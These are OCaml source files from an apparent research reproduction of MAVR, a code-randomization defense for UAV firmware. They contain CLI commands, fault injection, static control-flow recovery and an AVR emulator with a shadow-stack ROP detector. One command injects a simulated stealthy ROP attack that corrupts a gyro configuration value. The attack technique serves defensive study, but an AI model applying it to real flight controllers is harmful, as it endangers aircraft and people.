                 runtime's recommended count). The output is bit-identical for any value.")
  in
  let faults =
    Arg.(value & opt faults_conv Mavr_fault.Profile.none
         & info [ "faults" ] ~docv:"PROFILE" ~doc:"Fault-injection profile, as for campaign.")
  in
  let workers =
    Arg.(value & opt_all string []
         & info [ "worker" ] ~docv:"ADDR"
             ~doc:"A worker endpoint: $(b,unix:PATH) or a bare Unix-socket path of a running \
                   $(b,mavr serve --socket) instance. Repeatable.")
  in
  let spawn =
    Arg.(value & opt int 0
         & info [ "spawn" ] ~docv:"N"
             ~doc:"Spawn $(docv) local $(b,mavr serve) worker processes on temporary sockets \
                   (killed when dispatch exits). Combines with $(b,--worker).")
  in
  let nshards =
    Arg.(value & opt (some int) None
         & info [ "shards" ] ~docv:"N"
             ~doc:"Split the grid into at most $(docv) contiguous cell-aligned shards \
                   (default: one per worker).")
  in
  let heartbeat_timeout =
    Arg.(value & opt float 30.0
         & info [ "heartbeat-timeout" ] ~docv:"S"
             ~doc:"Declare a worker dead after $(docv) seconds without any line from it; its \
                   uncompleted index range is re-dispatched to a surviving worker.")
  in
  let max_attempts =
    Arg.(value & opt int 3
         & info [ "max-attempts" ] ~docv:"N"
             ~doc:"Give up on a shard after $(docv) assignments (with exponential backoff \
                   between re-dispatches) and exit 3.")
  in
  let connect_timeout =
    Arg.(value & opt float 5.0
         & info [ "connect-timeout" ] ~docv:"S"
             ~doc:"How long to retry connecting to a worker socket that is not accepting yet.")
  in
  let progress =
    Arg.(value & opt (some string) None
         & info [ "progress" ] ~docv:"FILE"
             ~doc:"Stream merged dispatcher heartbeats to FILE as JSONL ($(b,-) for stderr): \
                   one gap-free sequence over every shard's entries, plus a $(b,dispatch) \
                   detail object (shard/worker/re-dispatch counts).")
  in
  let early_stop =
    Arg.(value & opt (some float) None
         & info [ "early-stop" ] ~docv:"W"
             ~doc:"Per-cell Wilson-interval early stopping, as for campaign; cell-aligned \
                   shards keep every stop decision identical to a single-host run.")
  in
  let es_z =
    Arg.(value & opt float 1.96 & info [ "early-stop-z" ] ~docv:"Z"
           ~doc:"Wilson interval critical value (default 1.96).")
  in
  let es_min =
    Arg.(value & opt int 8 & info [ "early-stop-min" ] ~docv:"N"
           ~doc:"Never stop a cell before $(docv) trials (default 8).")
  in
  let es_batch =
    Arg.(value & opt int 4 & info [ "early-stop-batch" ] ~docv:"N"
           ~doc:"Grow each open cell by $(docv) trials per adaptive round (default 4).")
  in
  let kill_after =
    Arg.(value & opt (some int) None
         & info [ "kill-worker-after" ] ~docv:"N"
             ~doc:"(testing) SIGKILL the first spawned worker after $(docv) entries have been \
                   received from it — the mid-run death the re-dispatch path must survive. \
                   Used by the dispatch byte-diff rules in bin/dune.")
  in
  Cmd.v
    (Cmd.info "dispatch"
       ~doc:"Shard a campaign across $(b,mavr serve) workers: split the grid's task-index \
             space into contiguous cell-aligned shards, stream every worker's checkpoint \
             entries and heartbeats over its socket, survive worker death by re-dispatching \
             the uncompleted range, and merge into the exact document $(b,campaign --json) \
             prints — byte-identical. Exits like campaign (0/1), 2 on usage, 3 when a shard \
             stays unresolved.")
    Term.(
      const run $ profile_arg $ trials $ ms $ layouts $ seed $ jobs $ faults $ workers $ spawn
      $ nshards $ heartbeat_timeout $ max_attempts $ connect_timeout $ progress $ early_stop
      $ es_z $ es_min $ es_batch $ kill_after $ json_flag)

let cmd_profile =
  let run profile ms attack top json =
    let module J = Mavr_telemetry.Json in
    (* Undefended on purpose: MAVR's defense randomizes the layout at
       boot, which would invalidate the built image's symbol table and
       CFG — the annotations this report exists for. *)
    let b = build_firmware profile F.Profile.mavr in
    let s = Mavr_sim.Scenario.create ~image:b.F.Build.image Mavr_sim.Scenario.No_defense in
    let registry = Mavr_telemetry.Metrics.create () in
    let probes = Mavr_sim.Scenario.attach_telemetry s ~registry in
    let warmup = max 1 (ms / 3) in
    Mavr_sim.Scenario.run s ~ms:(float_of_int warmup);
    (if attack then
       let ti = Mavr_core.Rop.analyze b in
       let obs = Mavr_core.Rop.observe ti in
       Mavr_sim.Scenario.inject s
         (Mavr_core.Rop.v2_stealthy ti obs
            ~writes:
              [ Mavr_core.Rop.write_u16 obs ~addr:F.Layout.gyro_cfg ~value:0x4141 ~neighbour:0 ]));
    Mavr_sim.Scenario.run s ~ms:(float_of_int (max 1 (ms - warmup)));
    let stats = Mavr_avr.Probes.block_stats probes in
    if stats = [] then begin
      Format.eprintf
        "error: no superblocks executed — is the superblock engine disabled on this build?@.";
      1
    end
    else begin
      let report =
        Mavr_analysis.Hotspot.rank ~top ~image:b.F.Build.image
          ~stepped:(Mavr_avr.Probes.stepped_insns probes)
          stats
      in
      if json then print_endline (J.to_string ~indent:2 (Mavr_analysis.Hotspot.to_json report))
      else Format.printf "%a" Mavr_analysis.Hotspot.pp report;
      0
    end
  in
  let ms =
    Arg.(value & opt int 2000 & info [ "ms" ] ~docv:"MS" ~doc:"Simulated milliseconds to profile.")
  in
  let attack =
    Arg.(value & flag & info [ "attack" ] ~doc:"Inject the stealthy V2 attack after warm-up.")
  in
  let top =
    Arg.(value & opt int 20 & info [ "top" ] ~docv:"N" ~doc:"Rows in the ranked report.")
  in
  Cmd.v
    (Cmd.info "profile"
       ~doc:"Superblock hot-path profiler: fly the firmware instrumented, rank the hottest \
             superblocks by instructions retired, and annotate each with its containing \
             function symbol, static-CFG attribution and leading disassembly. Exits 1 when no \
             superblocks executed.")
    Term.(const run $ profile_arg $ ms $ attack $ top $ json_flag)

let cmd_tables =
  let run () =
    print_endline "Run `dune exec bench/main.exe` for the full table reproductions.";
    List.iter
      (fun p ->
        let stock, mavr = F.Build.build_pair p in
        Format.printf "%-11s functions=%4d stock=%6d B mavr=%6d B overhead=%.0f ms@."
          p.F.Profile.name (F.Build.function_count stock) (F.Build.code_size stock)
          (F.Build.code_size mavr)
          (Mavr_core.Serial.programming_ms Mavr_core.Serial.prototype (F.Build.code_size mavr)))
      F.Profile.all;
    0
  in
  Cmd.v (Cmd.info "tables" ~doc:"Quick Table I/II/III summary") Term.(const run $ const ())

(* Close the dependency loop at program start: Mavr_analysis.Equiv
   depends on mavr_core, so the randomizer receives its translation
   validator by injection.  Every randomize_checked call in this binary
   proves semantic equivalence, not just structural sanity. *)
let () =
  Mavr_core.Randomize.set_translation_validator (fun ~original ~randomized ->
      match Mavr_analysis.Equiv.validate ~original ~randomized with
      | Ok _ -> Ok ()
      | Error (m :: _ as ms) ->
          Error
            (Format.asprintf "%d mismatch(es), first: %a" (List.length ms)
               Mavr_analysis.Equiv.pp_mismatch m)
      | Error [] -> Error "validator rejected the image without a mismatch")

let () =
  let doc = "MAVR: code-reuse stealthy attacks and mitigation on UAVs (ICDCS 2015 reproduction)" in
  let exits =
    [
      Cmd.Exit.info 0 ~doc:"on success.";
      Cmd.Exit.info 1
        ~doc:
          "on operation failure: gadgets absent, randomization had no effect or failed \
           translation validation, output not writable, no fault captured, lint findings, an \
           analyze sub-analysis violation (taint finding, translation mismatch, stack bound \
           below the dynamic watermark), or a campaign that found a feasible payload or a \
           takeover under the MAVR defense.";
      Cmd.Exit.info 2 ~doc:"on usage error: unknown subcommand, bad option, or bad argument.";
      Cmd.Exit.info 3
        ~doc:
          "on dispatch failure: a shard stayed unresolved after its retry budget (worker \
           death/timeout with no surviving worker able to finish it), or the merged frontier \
           failed to re-form the campaign document.";
    ]
  in
  let info = Cmd.info "mavr" ~version:"1.0.0" ~doc ~exits in
  let cmd =
    Cmd.group info
      [ cmd_build; cmd_gadgets; cmd_randomize; cmd_attack; cmd_fly; cmd_stats;
        cmd_flight_record; cmd_disasm; cmd_lifetime; cmd_entropy; cmd_analyze; cmd_lint;
        cmd_campaign; cmd_serve; cmd_dispatch; cmd_profile; cmd_tables ]
  in
  (* Map every cmdliner-level error (unknown subcommand, bad flag, missing
     argument) to the documented usage-error code 2; uncaught exceptions
     are operation failures. *)
  exit
    (match Cmd.eval_value cmd with
    | Ok (`Ok code) -> code
    | Ok (`Help | `Version) -> 0
    | Error (`Parse | `Term) -> 2
    | Error `Exn -> 1)
