module Splitmix = Mavr_prng.Splitmix

type t = {
  level : Profile.level;
  downlink : Channel.t option;
  uplink : Channel.t option;
  seu : Seu.t option;
  reflash : Reflash.t option;
}

let create ~seed (level : Profile.level) =
  let root = Splitmix.create ~seed in
  (* Split unconditionally, in a fixed order, so each fault class sees
     the same stream whether or not its neighbours are enabled. *)
  let r_down = Splitmix.split root in
  let r_up = Splitmix.split root in
  let r_seu = Splitmix.split root in
  let r_reflash = Splitmix.split root in
  {
    level;
    downlink =
      (if Channel.is_clean level.downlink then None
       else Some (Channel.create ~rng:r_down level.downlink));
    uplink =
      (if Channel.is_clean level.uplink then None
       else Some (Channel.create ~rng:r_up level.uplink));
    seu = (if Seu.is_off level.seu then None else Some (Seu.create ~rng:r_seu level.seu));
    reflash =
      (if Reflash.is_off level.reflash then None
       else Some (Reflash.create ~rng:r_reflash level.reflash));
  }

let level t = t.level
let downlink t = t.downlink
let uplink t = t.uplink
let reflash t = t.reflash
let seu_tick t cpu = match t.seu with Some s -> Seu.tick s cpu | None -> ()

let seu_stats t =
  match t.seu with Some s -> Seu.stats s | None -> { Seu.sram_flips = 0; flash_flips = 0 }

let attach_metrics t registry =
  Option.iter (fun c -> Channel.attach_metrics ~prefix:"fault.downlink" c registry) t.downlink;
  Option.iter (fun c -> Channel.attach_metrics ~prefix:"fault.uplink" c registry) t.uplink;
  Option.iter (fun s -> Seu.attach_metrics ~prefix:"fault.seu" s registry) t.seu;
  Option.iter (fun r -> Reflash.attach_metrics ~prefix:"fault.reflash" r registry) t.reflash
