(** Static control-flow recovery over AVR flash images.

    The paper's §IV and §VII arguments are static-binary facts (gadget
    counts, gadget addresses moving under randomization); this module
    gives the repo a static view to establish them without executing the
    firmware, the way the related ArduPilot security analyses do.

    Recovery is recursive descent seeded from everything a static
    analyzer can trust about an image:

    - the interrupt vector table (hardware enters each 4-byte slot);
    - the symbol table (every function entry — MAVR's preprocessing
      phase ships it to the randomizer, so the analyzer has it too);
    - stored function pointers ([funptr_locs]: C++ vtables and
      call-routing/switch tables), the only static source of indirect
      [icall]/[ijmp] targets.

    Descent follows fallthrough, relative and absolute transfers, both
    arms of conditional branches, and both outcomes of skip instructions.
    Bytes of the executable regions that descent never reaches are
    decoded by a linear-sweep fallback so that every executable byte has
    {e some} instruction attribution (the attacker's total view; also how
    unreachable-code findings keep an address -> instruction context). *)

(** Why an address became a descent seed. *)
type provenance =
  | Vector of int  (** interrupt vector number *)
  | Symbol of string  (** function entry from the symbol table *)
  | Funptr of int  (** flash offset of the stored function pointer *)

type t

(** [recover image] runs recursive descent plus the linear-sweep
    fallback. *)
val recover : Mavr_obj.Image.t -> t

val image : t -> Mavr_obj.Image.t

(** The descent seeds actually inside executable regions, ascending. *)
val entries : t -> (int * provenance) list

(** [insn_at t addr] — the instruction recovered at [addr] by descent,
    or [None] when [addr] is not a descent-reached boundary. *)
val insn_at : t -> int -> (Mavr_avr.Isa.t * int) option

(** [sweep_insn_at t addr] — fallback linear-sweep decode at [addr]
    (only populated for gaps descent never reached). *)
val sweep_insn_at : t -> int -> (Mavr_avr.Isa.t * int) option

val is_reachable : t -> int -> bool

(** Every descent-reached instruction boundary, ascending — the node set
    the {!Dataflow} solver iterates. *)
val reachable_addrs : t -> int list

(** Reachable basic-block leader {e byte} addresses, sorted: recovery
    entries plus every branch/call target.  The static complement to the
    superblock engine's dynamic block discovery. *)
val block_starts : t -> int list

(** {!block_starts} as {e word} addresses — the exact input
    {!Mavr_avr.Cpu.precompile} expects. *)
val block_start_words : t -> int list

(** [iter_reachable t f] calls [f addr insn size] in ascending address
    order over every descent-reached instruction. *)
val iter_reachable : t -> (int -> Mavr_avr.Isa.t -> int -> unit) -> unit

(** Static successors of the instruction at [addr] (byte addresses;
    empty for [ret]/[reti]/[ijmp] and undecodable words). *)
val successors : code:string -> int -> Mavr_avr.Isa.t -> int -> int list

(** The executable byte regions of an image: the vector/early code at 0
    and the shuffleable text section. *)
val exec_regions : Mavr_obj.Image.t -> (int * int) list

val in_exec : Mavr_obj.Image.t -> int -> bool

(** [funptr_target image loc] reads the 16-bit little-endian {e word}
    address stored at flash offset [loc] and returns it as a byte
    address ([None] when the slot is truncated). *)
val funptr_target : Mavr_obj.Image.t -> int -> int option

type stats = {
  entries : int;  (** descent seeds in executable regions *)
  reachable_insns : int;
  reachable_bytes : int;
  exec_bytes : int;
  coverage_pct : float;  (** reachable_bytes / exec_bytes *)
  blocks : int;  (** basic blocks over the reachable instructions *)
  sweep_insns : int;  (** linear-sweep fallback instructions *)
  sweep_bytes : int;
}

val stats : t -> stats
val stats_to_json : stats -> Mavr_telemetry.Json.t
val pp_stats : Format.formatter -> stats -> unit
