type policy = { randomize_every_boots : int }

let check policy =
  if policy.randomize_every_boots < 1 then
    invalid_arg "Lifetime: randomize_every_boots must be >= 1"

let reflashes_per_boot policy ~attack_rate_per_boot =
  check policy;
  if attack_rate_per_boot < 0.0 then invalid_arg "Lifetime: negative attack rate";
  (1.0 /. float_of_int policy.randomize_every_boots) +. attack_rate_per_boot

let boots_until_wearout policy ~endurance ~attack_rate_per_boot =
  float_of_int endurance /. reflashes_per_boot policy ~attack_rate_per_boot

let layout_exposure_boots policy =
  check policy;
  policy.randomize_every_boots

let years_until_wearout policy ~endurance ~attack_rate_per_boot ~boots_per_day =
  if boots_per_day <= 0.0 then invalid_arg "Lifetime: boots_per_day must be positive";
  boots_until_wearout policy ~endurance ~attack_rate_per_boot /. boots_per_day /. 365.25
