lib/sim/groundstation.ml: Format List Mavr_mavlink
