module Image = Mavr_obj.Image

let scan_function_pointers (img : Image.t) =
  let starts = Hashtbl.create 512 in
  List.iter
    (fun (s : Image.symbol) -> Hashtbl.replace starts (s.addr / 2) ())
    img.symbols;
  (* A pointer may also route through a low-region trampoline (the
     >128 KB avr-gcc idiom): a fixed [jmp] whose target is a function
     start. *)
  let is_trampoline w =
    let addr = 2 * w in
    (* Trampolines live between the vector table and the data region;
       vector slots also decode to [jmp function], so exclude them. *)
    addr >= Mavr_avr.Device.Vector.count * 4
    && addr + 4 <= img.exec_low_end
    &&
    match Mavr_avr.Decode.decode_bytes img.code addr with
    | Mavr_avr.Isa.Jmp a, _ -> Hashtbl.mem starts a
    | _ -> false
  in
  let hits = ref [] in
  (* The data region between the vector code and the text section: where
     the vtable initializer (and other rodata) lives. *)
  let lo = img.exec_low_end and hi = img.text_start in
  let pos = ref lo in
  while !pos + 1 < hi do
    let w = Char.code img.code.[!pos] lor (Char.code img.code.[!pos + 1] lsl 8) in
    if Hashtbl.mem starts w || is_trampoline w then hits := !pos :: !hits;
    pos := !pos + 2
  done;
  List.rev !hits

let verify img =
  let scanned = scan_function_pointers img in
  let missing = List.filter (fun loc -> not (List.mem loc scanned)) img.Image.funptr_locs in
  match missing with
  | [] -> Ok ()
  | loc :: _ ->
      Error
        (Printf.sprintf "recorded function pointer at 0x%x not discovered by the scan (of %d)"
           loc (List.length missing))

let false_positive_count img =
  let scanned = scan_function_pointers img in
  List.length (List.filter (fun loc -> not (List.mem loc img.Image.funptr_locs)) scanned)
