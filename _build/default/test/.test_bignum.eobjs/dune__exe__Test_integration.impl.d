test/test_integration.ml: Alcotest Char Helpers List Mavr_avr Mavr_core Mavr_firmware Mavr_obj Mavr_sim String
