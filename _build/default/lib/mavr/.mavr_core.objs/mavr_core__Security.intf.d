lib/mavr/security.mli: Mavr_bignum
