open Isa

type halt =
  | Illegal_instruction of { byte_addr : int; word : int }
  | Wild_pc of int
  | Break_hit
  | Sleep_mode
  | Rop_detected of { expected : int; got : int }

let pp_halt fmt = function
  | Illegal_instruction { byte_addr; word } ->
      Format.fprintf fmt "illegal instruction 0x%04x at 0x%x" word byte_addr
  | Wild_pc a -> Format.fprintf fmt "wild PC at 0x%x" a
  | Break_hit -> Format.fprintf fmt "break"
  | Sleep_mode -> Format.fprintf fmt "sleep"
  | Rop_detected { expected; got } ->
      Format.fprintf fmt "shadow-stack violation: ret to 0x%x, expected 0x%x" got expected

(* A compiled superblock handed to the block tap: enough for the
   telemetry layer to account for every instruction the block retires
   without per-instruction callbacks.  [bi_key] is unique per compiled
   block (never reused within a CPU lifetime), so observers can memoize
   per-block work against it. *)
type block_info = {
  bi_key : int;
  bi_pc : int; (* entry word address *)
  bi_pcs : int array; (* word address of each instruction *)
  bi_insns : Isa.t array;
}

type t = {
  mem : Memory.t;
  dev : Device.t;
  mutable pc : int; (* word address *)
  mutable cycles : int;
  mutable retired : int;
  mutable halt : halt option;
  mutable program_bytes : int; (* extent of the flashed image; PC beyond => wild *)
  uart_rx : int Queue.t;
  uart_tx : Buffer.t;
  mutable feeds : int;
  mutable last_feed : int;
  mutable shadow : int list option; (* Some stack when the monitor is on *)
  mutable shadow_overhead : int;
  mutable timer_next_fire : int; (* cycle of the next compare interrupt *)
  mutable i_up_cycle : int; (* cycle at which SREG.I last rose 0 -> 1 *)
  mutable interrupts_taken : int;
  mutable tx_cycles_per_byte : int;
  mutable tx_busy_until : int;
  (* Predecode cache: one entry per word PC.  [icache_words.(pc)] is the
     instruction length in words (1 or 2), with 0 meaning "not decoded
     yet"; [icache_insn.(pc)] is only meaningful when the length is
     non-zero.  Entries are filled on first execution and the whole
     cache is discarded whenever the flash epoch moves (reflash /
     bootloader page write), so a freshly randomized lifetime can never
     dispatch a stale decode. *)
  mutable icache_insn : Isa.t array;
  mutable icache_words : int array;
  mutable icache_epoch : int;
  mutable use_icache : bool;
  (* Superblock engine: straight-line runs of instructions fused into
     closure arrays ([block]), compiled lazily at whatever word address
     the batched run loop reaches and indexed by entry PC.  Like the
     predecode cache the whole table is discarded when the flash epoch
     moves, so reflashes and SEU page writes can never execute stale
     fused code.  [block_stop] is raised by [io_write] when a guest
     store re-arms the timer or sets SREG.I mid-block — the two events
     that can make the remainder of a fused block unsound — and makes
     the block exit after the current instruction. *)
  mutable blocks : block array;
  mutable blocks_epoch : int;
  mutable block_keys : int; (* next bi_key to assign *)
  mutable use_superblocks : bool;
  mutable block_stop : bool;
  mutable block_insns : int; (* executed prefix length of the last fused block *)
  (* SREG and SP are architecturally memory-mapped (0x5F / 0x5D-0x5E) but
     live here as plain ints: the flag helpers touch SREG on nearly every
     instruction and the stack pointer on every push/pop, so routing them
     through the byte array costs bounds checks and char conversions on
     the hottest path.  [io_read]/[io_write] intercept their I/O addresses
     so guest loads/stores still see the same values. *)
  mutable sreg_v : int;
  mutable sp_v : int;
  (* Deepest stack pointer ever written (the stack high-water mark).
     Tracked by the engine itself — on SP writes, not by sampling the
     instruction stream — so the value is bit-identical whether the
     telemetry taps fire per instruction or per superblock. *)
  mutable sp_min : int;
  (* Scratch for the cycle cost of the instruction being executed; a
     field rather than a [ref] so [exec_one] does not allocate. *)
  mutable cyc : int;
  (* Telemetry taps.  The instruction tap is the only one on the hot
     path, so it is guarded by a plain bool ([tap_on]) with a no-op
     closure behind it: when tracing is off the per-instruction cost is
     one load + one predictable branch, nothing else.  The interrupt and
     halt taps sit on cold paths and stay options. *)
  mutable tap_on : bool;
  mutable tap_insn : int -> Isa.t -> unit; (* word PC of the insn, decoded insn *)
  mutable tap_insn_user : bool; (* a user per-insn tap: forces single-stepping *)
  mutable tap_block_on : bool;
  mutable tap_block : block_info -> int -> unit; (* block, instructions executed *)
  mutable tap_irq : (latency:int -> masked:int -> unit) option;
  mutable tap_halt : (halt -> unit) option;
}

(* One fused superblock: a *trace* compiled to continuation-threaded
   code.  [b_entry] is the first instruction's closure; each closure
   performs its instruction's semantics and tail-calls the next, so a
   straight-line run costs one indirect call per instruction and no
   dispatch.  Cycle accounting is batched at compile time: pure
   ALU/transfer closures never touch [t.cycles] — the accumulated
   constant is flushed immediately before any operation that can
   observe the clock (I/O reads/writes, data-space access, the
   terminator) and on every side exit, so every observer sees exactly
   the value the stepping engine would show it.  Every exit path
   (predicted-branch fall-out, skip taken, [block_stop] after an I/O
   write, terminator) writes [t.pc], credits [t.retired] once, and
   records the executed prefix length in [t.block_insns] for the block
   tap.  [b_cyc_max] bounds the cycles a full execution can consume
   (used to keep timer interrupts out of fused runs); [b_shadow_sites]
   counts the call/ret sites whose shadow-stack overhead must be added
   to that bound at entry time. *)
and block = {
  b_info : block_info;
  b_entry : t -> unit;
  b_cyc_max : int;
  b_shadow_sites : int;
}

let dummy_block_info = { bi_key = -1; bi_pc = -1; bi_pcs = [||]; bi_insns = [||] }

let dummy_block =
  { b_info = dummy_block_info; b_entry = (fun _ -> ()); b_cyc_max = 0; b_shadow_sites = 0 }

let no_insn_tap _ _ = ()
let no_block_tap _ _ = ()

(* Process-wide default for new CPUs, so harness layers (campaign CLI,
   benchmarks) can flip the engine without threading a parameter through
   every scenario constructor.  Read once, in [create]. *)
let superblocks_default = ref true
let set_superblocks_default v = superblocks_default := v

let create ?(device = Device.atmega2560) () =
  {
    mem = Memory.create device;
    dev = device;
    pc = 0;
    cycles = 0;
    retired = 0;
    halt = None;
    program_bytes = device.Device.flash_bytes;
    uart_rx = Queue.create ();
    uart_tx = Buffer.create 256;
    feeds = 0;
    last_feed = 0;
    shadow = None;
    shadow_overhead = 0;
    timer_next_fire = max_int;
    i_up_cycle = 0;
    interrupts_taken = 0;
    tx_cycles_per_byte = 0;
    tx_busy_until = 0;
    icache_insn = [||];
    icache_words = [||];
    icache_epoch = -1;
    use_icache = true;
    blocks = [||];
    blocks_epoch = -1;
    block_keys = 0;
    use_superblocks = !superblocks_default;
    block_stop = false;
    block_insns = 0;
    sreg_v = 0;
    sp_v = 0;
    sp_min = max_int;
    cyc = 0;
    tap_on = false;
    tap_insn = no_insn_tap;
    tap_insn_user = false;
    tap_block_on = false;
    tap_block = no_block_tap;
    tap_irq = None;
    tap_halt = None;
  }

let mem t = t.mem
let device t = t.dev

(* Register file: memory-mapped at data 0x00..0x1F. *)
let[@inline] reg t r = Memory.reg_get t.mem r
let[@inline] set_reg t r v = Memory.reg_set t.mem r v

let io_addr t a = t.dev.Device.io_base + a
let sp t = t.sp_v

let set_sp t v =
  let v = v land 0xFFFF in
  t.sp_v <- v;
  if v < t.sp_min then t.sp_min <- v

let sp_watermark t = t.sp_min
let[@inline] sreg t = t.sreg_v
let[@inline] set_sreg t v = t.sreg_v <- v land 0xFF
let pc t = t.pc
let pc_byte_addr t = t.pc * 2
let set_pc t v = t.pc <- v
let cycles t = t.cycles
let instructions_retired t = t.retired
let halted t = t.halt

(* Single halt funnel: every path that stops the CPU goes through here so
   the halt tap (the flight-recorder dump trigger) fires exactly once per
   fault, whichever execution entry point was driving. *)
let set_halt t h =
  t.halt <- Some h;
  match t.tap_halt with None -> () | Some f -> f h

let force_halt t h = set_halt t h

(* ---- Telemetry taps ------------------------------------------------- *)

(* The per-instruction tap and the block tap are mutually exclusive:
   installing one replaces the other.  A user instruction tap demands
   per-instruction observation, so the batched loops fall back to
   single-stepping ([tap_insn_user]); the block tap keeps superblocks on
   and observes whole blocks, with its [on_step] callback covering the
   instructions the engine must still execute one at a time (timer-near
   windows, uncompilable edges).  Either change takes effect at the next
   block boundary — compiled blocks never embed tap state, so there is
   no stale fused code to worry about, only the loop's per-iteration
   mode check. *)

let set_insn_tap t = function
  | None ->
      if t.tap_insn_user then begin
        t.tap_on <- false;
        t.tap_insn <- no_insn_tap;
        t.tap_insn_user <- false
      end
  | Some f ->
      t.tap_insn <- f;
      t.tap_on <- true;
      t.tap_insn_user <- true;
      t.tap_block_on <- false;
      t.tap_block <- no_block_tap

let set_block_tap t ~on_block ~on_step =
  t.tap_block <- on_block;
  t.tap_block_on <- true;
  t.tap_insn <- on_step;
  t.tap_on <- true;
  t.tap_insn_user <- false

let clear_block_tap t =
  if not t.tap_insn_user then begin
    t.tap_on <- false;
    t.tap_insn <- no_insn_tap
  end;
  t.tap_block_on <- false;
  t.tap_block <- no_block_tap

let insn_tap_active t = t.tap_insn_user
let block_tap_active t = t.tap_block_on
let set_irq_tap t f = t.tap_irq <- f
let set_halt_tap t f = t.tap_halt <- f

let reset t =
  (match t.shadow with Some _ -> t.shadow <- Some [] | None -> ());
  t.timer_next_fire <- max_int;
  t.i_up_cycle <- 0;
  t.block_stop <- false;
  t.pc <- 0;
  t.cycles <- 0;
  t.retired <- 0;
  t.halt <- None;
  (* Cycle-anchored peripheral state must restart with the clock, or a
     reflashed CPU would see a transmitter busy for an entire previous
     lifetime and a watchdog that never times out. *)
  t.tx_busy_until <- 0;
  t.last_feed <- 0;
  (* Likewise the UART FIFOs and event counters: a reflashed lifetime
     must not inherit the previous lifetime's pending RX bytes (a
     half-received attack payload would replay into the fresh image),
     untaken TX bytes, or watchdog/interrupt tallies. *)
  Queue.clear t.uart_rx;
  Buffer.clear t.uart_tx;
  t.feeds <- 0;
  t.interrupts_taken <- 0;
  (* [sp_min] is deliberately *not* cleared: the high-water mark spans
     reflash lifetimes, matching the attach-lifetime watermark the
     telemetry layer reports. *)
  set_sp t (Device.data_end t.dev - 1);
  set_sreg t 0

let load_program t image =
  Memory.load_flash t.mem image;
  t.program_bytes <- String.length image;
  reset t

(* ---- Predecode cache ------------------------------------------------ *)

let set_decode_cache t enabled = t.use_icache <- enabled
let decode_cache_enabled t = t.use_icache

(* Rebuild (or first-build) the cache skeleton for the current flash
   epoch.  Entries are decoded lazily on first execution: per-lifetime
   randomized images rarely execute every word, and ROP gadgets enter
   mid-instruction, so the cache must cover *every* word address rather
   than just a linear disassembly — lazy fill gives both for free. *)
let refresh_icache t =
  let nwords = (t.program_bytes + 1) / 2 in
  if Array.length t.icache_words = nwords then Array.fill t.icache_words 0 nwords 0
  else begin
    t.icache_words <- Array.make nwords 0;
    t.icache_insn <- Array.make nwords Isa.Nop
  end;
  t.icache_epoch <- Memory.flash_epoch t.mem

let decode_raw t pc =
  Decode.decode (Memory.flash_word t.mem pc) (Memory.flash_word t.mem (pc + 1))

(* Decode word address [pc] and store it in the cache (in-range [pc]
   only).  Returns the instruction; the length lands in [icache_words]. *)
let fill_entry t pc =
  let insn, words = decode_raw t pc in
  Array.unsafe_set t.icache_insn pc insn;
  Array.unsafe_set t.icache_words pc words;
  insn

(* Re-validate the cache against the flash epoch, so a reflash (the
   per-lifetime re-randomization path) can never serve stale decodes.
   Nothing executed by [exec_one] can mutate flash (there is no SPM
   instruction; reflashes happen host-side between calls), so the public
   execution entry points sync once instead of paying an epoch compare
   per instruction. *)
let sync_icache t =
  if t.use_icache && t.icache_epoch <> Memory.flash_epoch t.mem then refresh_icache t

(* Fetch the (insn, length-in-words) pair at word address [pc].
   Precondition: the cache is sync'd ([sync_icache]).  [skip_next] can
   probe one word past the programmed image; out-of-range addresses fall
   back to a raw decode, exactly as the uncached path reads erased
   flash. *)
let fetch t pc =
  if t.use_icache && pc >= 0 && pc < Array.length t.icache_words then begin
    let words = Array.unsafe_get t.icache_words pc in
    if words <> 0 then (Array.unsafe_get t.icache_insn pc, words)
    else
      let insn = fill_entry t pc in
      (insn, Array.unsafe_get t.icache_words pc)
  end
  else decode_raw t pc

(* I/O-aware data-space access: reads/writes to the I/O file trigger
   peripheral behaviour; everything else is plain memory (including the
   register file, which is how the write_mem gadget corrupts state). *)
let io_read t a =
  if a = Device.Io.udr then (if Queue.is_empty t.uart_rx then 0 else Queue.pop t.uart_rx)
  else if a = Device.Io.ucsra then
    (if Queue.is_empty t.uart_rx then 0 else 0x80)
    lor (if t.cycles >= t.tx_busy_until then 0x20 else 0)
  else if a = Device.Io.sreg then t.sreg_v
  else if a = Device.Io.spl then t.sp_v land 0xFF
  else if a = Device.Io.sph then (t.sp_v lsr 8) land 0xFF
  else Memory.data_get t.mem (io_addr t a)

let io_write t a v =
  if a = Device.Io.udr then begin
    (* Writes during the busy window are lost, as on the real part. *)
    if t.cycles >= t.tx_busy_until then begin
      Buffer.add_char t.uart_tx (Char.chr (v land 0xFF));
      t.tx_busy_until <- t.cycles + t.tx_cycles_per_byte
    end
  end
  else if a = Device.Io.wdt_feed then begin
    t.feeds <- t.feeds + 1;
    t.last_feed <- t.cycles;
    Memory.data_set t.mem (io_addr t a) v
  end
  else if a = Device.Io.tccr then begin
    Memory.data_set t.mem (io_addr t a) v;
    if v land 1 <> 0 then begin
      let period = (Memory.data_get t.mem (io_addr t Device.Io.ocr) + 1) * 64 in
      t.timer_next_fire <- t.cycles + period
    end
    else t.timer_next_fire <- max_int;
    (* Re-arming the timer invalidates the no-interrupt-within-this-block
       guarantee a running superblock was entered under. *)
    t.block_stop <- true
  end
  else if a = Device.Io.sreg then begin
    if v land 0x80 <> 0 then begin
      if t.sreg_v land 0x80 = 0 then t.i_up_cycle <- t.cycles;
      (* Setting I mid-block could unmask a pending compare match. *)
      t.block_stop <- true
    end;
    t.sreg_v <- v land 0xFF
  end
  else if a = Device.Io.spl then set_sp t (t.sp_v land 0xFF00 lor (v land 0xFF))
  else if a = Device.Io.sph then set_sp t ((v land 0xFF) lsl 8 lor (t.sp_v land 0xFF))
  else if a = Device.Io.eecr then begin
    (* EEPROM access, triggered by the EERE/EEPE strobe bits. *)
    let ear =
      Memory.data_get t.mem (io_addr t Device.Io.eearl)
      lor (Memory.data_get t.mem (io_addr t Device.Io.eearh) lsl 8)
    in
    if v land 0x01 <> 0 then
      (* EERE: read eeprom[EEAR] into EEDR (stalls the CPU 4 cycles). *)
      Memory.data_set t.mem (io_addr t Device.Io.eedr) (Memory.eeprom_get t.mem ear)
    else if v land 0x02 <> 0 then
      (* EEPE: program eeprom[EEAR] from EEDR. *)
      Memory.eeprom_set t.mem ear (Memory.data_get t.mem (io_addr t Device.Io.eedr));
    Memory.data_set t.mem (io_addr t a) 0 (* strobes auto-clear *)
  end
  else Memory.data_set t.mem (io_addr t a) v

let data_read t addr =
  let io0 = t.dev.Device.io_base in
